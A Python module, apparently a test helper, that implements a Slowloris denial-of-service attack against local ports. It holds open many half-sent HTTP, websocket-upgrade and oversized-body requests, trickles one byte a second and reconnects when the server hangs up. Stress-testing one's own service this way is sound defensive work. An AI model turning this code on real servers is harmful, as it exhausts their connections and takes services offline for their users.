"""Connections that cost their owner nothing and are never finished."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Sequence
from types import TracebackType

DRIP_SECONDS = 1.0
_HEAD = b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
_SOCKET = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
_UPGRADE = _HEAD + _SOCKET + b"Sec-WebSocket-Version: 13\r\n\r\n"
_OPENINGS = (
    b"GET /" + _HEAD + b"X-Slow: ",
    b"PUT /aggregator/slots/1-1-" + b"0" * 40 + _HEAD + b"Content-Length: 400000\r\n\r\n",
    b"GET /ws/wallet/" + _UPGRADE,
    b"GET /ws/round/" + _UPGRADE,
    b"POST /api/v1/wallets/pair" + _HEAD + b"Content-Length: 2000\r\n\r\n{",
)


class SlowLoris:
    """`each` connections to every port; each says one byte a second. A server that hangs up is called again."""

    def __init__(self, ports: Sequence[int], *, each: int) -> None:
        self._ports, self._each = ports, each
        self._over = threading.Event()
        self._threads: list[threading.Thread] = []
        self.count = 0

    def __enter__(self) -> SlowLoris:
        for port in self._ports:
            sockets = [self._call(port, n) for n in range(self._each)]
            self.count += sum(found is not None for found in sockets)
            thread = threading.Thread(target=self._drip, args=(port, sockets), daemon=True)
            thread.start()
            self._threads.append(thread)
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._over.set()
        for thread in self._threads:
            thread.join(20)

    def _call(self, port: int, number: int) -> socket.socket | None:
        try:
            found = socket.create_connection(("127.0.0.1", port), timeout=5)
            found.sendall(_OPENINGS[number % len(_OPENINGS)])
        except OSError:
            return None
        return found

    def _drip(self, port: int, sockets: list[socket.socket | None]) -> None:
        while not self._over.wait(DRIP_SECONDS):
            for number, found in enumerate(sockets):
                try:
                    if found is None:
                        raise OSError
                    found.sendall(b"x")
                except OSError:
                    if found is not None:
                        found.close()
                    sockets[number] = self._call(port, number)
        for found in sockets:
            with contextlib.suppress(OSError):
                if found is not None:
                    found.close()
